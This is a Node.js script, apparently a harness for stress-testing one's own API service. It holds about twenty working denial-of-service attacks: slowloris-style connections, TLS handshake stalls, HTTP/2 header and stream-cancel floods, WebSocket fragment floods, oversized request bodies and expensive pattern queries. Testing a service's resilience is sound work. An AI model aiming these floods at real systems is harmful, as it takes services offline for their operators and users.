/**
 * One attack on a running helper, from a process of its own: `node attacker.js <attack> <json>`. Goes on until it is
 * killed, and prints a line of figures each second. Loopback and this machine's own address only.
 */
import { createHash, randomBytes } from 'node:crypto'
import http2 from 'node:http2'
import net from 'node:net'
import tls from 'node:tls'

const [, , attack, given = '{}'] = process.argv
/** The target: host, port, public API key, a second user's access token, path of a large dashboard file. */
const { host, port, apikey, token, asset } = JSON.parse(given)
const figures = { opened: 0, closed: 0, answers: {} }
setInterval(() => process.stdout.write(`${JSON.stringify(figures)}\n`), 1_000)
process.on('uncaughtException', () => undefined)

const count = (status) => {
  figures.answers[status] = (figures.answers[status] ?? 0) + 1
}
const watched = (socket) => {
  figures.opened++
  socket.on('error', () => undefined)
  socket.on('close', () => figures.closed++)
  return socket
}
const raw = () => watched(net.connect(port, host))
const secured = (ALPNProtocols) =>
  watched(tls.connect({ host, port, rejectUnauthorized: false, ALPNProtocols, servername: 'localhost' }))
const session = (settings = {}) => {
  const one = http2.connect(`https://${host}:${port}`, {
    rejectUnauthorized: false,
    servername: 'localhost',
    settings,
  })
  watched(one)
  return one
}
const authority = `localhost:${port}`
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/** Keeps `most` connections open, with at most `perSecond` new ones a second. */
async function keep(most, perSecond, open) {
  for (;;) {
    if (figures.opened - figures.closed < most) open()
    await pause(1_000 / perSecond)
  }
}

/** Sends an HTTP/2 request whose body never ends. */
function halfBody(client, path, bytes, headers = {}) {
  const request = client.request(
    {
      ':method': 'POST',
      ':path': path,
      ':authority': authority,
      apikey,
      'content-type': 'application/json',
      ...headers,
    },
    { endStream: false },
  )
  request.on('error', () => undefined)
  request.on('response', (answer) => count(answer[':status']))
  const chunk = Buffer.alloc(64 * 1024, ' ')
  let sent = 0
  const more = () => {
    while (sent < bytes && !request.destroyed) {
      sent += chunk.length
      if (!request.write(chunk)) return request.once('drain', more)
    }
  }
  more()
  return request
}

const bodies = (path, bytes, streams, sessions, headers) =>
  keep(sessions, 20, () => {
    const client = session()
    client.on('connect', () => {
      for (let n = 0; n < streams; n++) halfBody(client, path, bytes, headers)
    })
  })

/** Keeps `most` concurrent requests to a table of a user running. */
async function ask(most, path, init = () => ({})) {
  let client = session()
  let under = 0
  for (;;) {
    if (client.destroyed || client.closed) {
      client = session()
      under = 0
      await pause(100)
    }
    if (under >= most) {
      await pause(5)
      continue
    }
    under++
    const { method = 'GET', body } = init()
    const request = client.request({
      ':method': method,
      ':path': path(),
      ':authority': authority,
      apikey,
      authorization: `Bearer ${token}`,
      ...(body !== undefined && { 'content-type': 'application/json' }),
    })
    request.on('error', () => undefined)
    request.on('response', (answer) => count(answer[':status']))
    request.on('close', () => under--)
    request.resume()
    request.end(body)
    if (under === 1) await pause(20)
  }
}

const clientHello = () => {
  const bytes = randomBytes(200)
  bytes.set([0x16, 0x03, 0x01, 0x02, 0x00])
  return bytes
}

/** Opens a WebSocket of realtime, without a library so that any bytes can be sent. */
function openRealtime() {
  const socket = secured(['http/1.1'])
  socket.on('secureConnect', () => {
    const key = createHash('md5').update(randomBytes(8)).digest('base64')
    socket.write(
      `GET /realtime/v1/websocket?apikey=${apikey} HTTP/1.1\r\nHost: ${authority}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\n\r\n`,
    )
  })
  return socket
}

const ATTACKS = {
  'no attack': () => pause(1e9),
  'idle connections': () => keep(3_000, 400, raw),
  'incomplete request lines': () => keep(3_000, 400, () => raw().write('GET /api/hel')),
  'endless headers': () =>
    keep(1_500, 300, () => {
      const socket = secured(['http/1.1'])
      socket.on('secureConnect', () => {
        socket.write(`GET /api/helper HTTP/1.1\r\nHost: ${authority}\r\n`)
        const more = setInterval(() => socket.write(`X-${Math.random()}: a\r\n`), 3_000)
        socket.on('close', () => clearInterval(more))
      })
    }),
  'incomplete TLS handshakes': () => keep(3_000, 400, () => raw().write(clientHello())),
  'idle TLS connections': () => keep(1_500, 300, () => secured(['http/1.1'])),
  'idle HTTP/2 sessions': () => keep(1_500, 300, () => session()),
  'HTTP/2 sessions with pings alone': () =>
    keep(800, 300, () => {
      const client = session()
      const more = setInterval(() => client.destroyed || client.ping(() => undefined), 2_000)
      client.on('close', () => clearInterval(more))
    }),
  'unauthenticated table writes of 8 MB': () =>
    bodies('/rest/v1/comics_library', 8 * 1024 * 1024 - 65_536, 100, 4),
  'unauthenticated sign-ins of 1 MB': () =>
    bodies('/auth/v1/token?grant_type=password', 1024 * 1024 - 65_536, 100, 20),
  'unauthenticated broadcasts of 1 MB': () =>
    bodies('/realtime/v1/api/broadcast', 1024 * 1024 - 65_536, 100, 20),
  "a user's table writes of 8 MB": () =>
    bodies('/rest/v1/comics_library', 8 * 1024 * 1024 - 65_536, 100, 4, { authorization: `Bearer ${token}` }),
  'unread responses': () =>
    keep(500, 50, () => {
      const client = session({ initialWindowSize: 0 })
      client.on('connect', () => {
        for (let n = 0; n < 100; n++)
          client
            .request({ ':path': asset, ':authority': authority })
            .on('error', () => undefined)
            .on('response', (answer) => count(answer[':status']))
      })
    }),
  'unread HTTP/1.1 responses': () =>
    keep(1_000, 100, () => {
      const socket = secured(['http/1.1'])
      socket.pause()
      socket.on('secureConnect', () =>
        socket.write(`GET ${asset} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`.repeat(50)),
      )
    }),
  'floods of headers': () =>
    keep(50, 50, () => {
      const socket = secured(['http/1.1'])
      socket.on('secureConnect', () => {
        const flood = () => {
          while (!socket.destroyed && socket.write(`X-${Math.random()}: ${'a'.repeat(1_000)}\r\n`));
        }
        socket.write('GET / HTTP/1.1\r\n')
        socket.on('drain', flood)
        flood()
      })
    }),
  'floods of HTTP/2 headers': () =>
    keep(10, 10, () => {
      const client = session()
      const headers = Object.fromEntries(
        Array.from({ length: 60 }, (_, n) => [`x-${n}`, randomBytes(400).toString('hex')]),
      )
      const more = setInterval(() => {
        if (client.destroyed) return clearInterval(more)
        for (let n = 0; n < 50; n++)
          client
            .request({ ':path': '/api/helper', ':authority': authority, ...headers })
            .on('error', () => undefined)
            .on('response', (answer) => count(answer[':status']))
            .resume()
      }, 100)
      client.on('close', () => clearInterval(more))
    }),
  'cancelled requests': () =>
    keep(10, 10, () => {
      const client = session()
      const more = setInterval(() => {
        if (client.destroyed) return clearInterval(more)
        for (let n = 0; n < 90; n++)
          client
            .request({ ':path': '/api/helper', ':authority': authority })
            .on('error', () => undefined)
            .close(8)
      }, 50)
      client.on('close', () => clearInterval(more))
    }),
  'WebSockets that never join': () =>
    keep(1_000, 200, () => {
      const socket = openRealtime()
      socket.once('data', (answer) => {
        count(answer.toString('latin1').slice(9, 12))
        // The header of a frame of a megabyte, and nearly all of its payload.
        const head = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x0f, 0xff, 0xff, 0, 0, 0, 0])
        socket.write(Buffer.concat([head, Buffer.alloc(1_000_000, 'a')]))
      })
    }),
  'endless WebSocket messages': () =>
    keep(50, 50, () => {
      const frame = (first, payload) =>
        Buffer.concat([Buffer.from([first, 0x80 | payload.length, 0, 0, 0, 0]), payload])
      // Fragments of one byte, with pongs between them that fill a TLS record.
      const pongs = Buffer.concat(Array.from({ length: 124 }, () => frame(0x8a, Buffer.alloc(125))))
      const [text, continuation] = [0x01, 0x00].map((first) =>
        Buffer.concat([frame(first, Buffer.from('a')), pongs]),
      )
      const socket = openRealtime()
      socket.once('data', (answer) => {
        count(answer.toString('latin1').slice(9, 12))
        socket.resume()
        const flood = () => {
          while (!socket.destroyed && socket.write(continuation));
        }
        socket.on('drain', flood)
        socket.write(text)
        flood()
      })
    }),
  'a long pattern over long texts': () =>
    ask(20, () => `/rest/v1/comics_library?select=id&summary=like.*${'a'.repeat(990)}b*`),
  'many short patterns over long texts': () =>
    ask(
      20,
      () =>
        `/rest/v1/comics_library?select=id&or=(${Array.from({ length: 60 }, (_, n) => `summary.ilike.*aaaaaaaaaaaaaaaa${n}*`).join()})`,
    ),
  'writes with a long pattern': () =>
    ask(
      20,
      () => `/rest/v1/comics_library?summary=like.*${'a'.repeat(990)}b*`,
      () => ({
        method: 'PATCH',
        body: '{"title":"x"}',
      }),
    ),
  'responses of hundreds of megabytes': () => ask(10, () => '/rest/v1/comics_library?select=*'),
}

await ATTACKS[attack]()
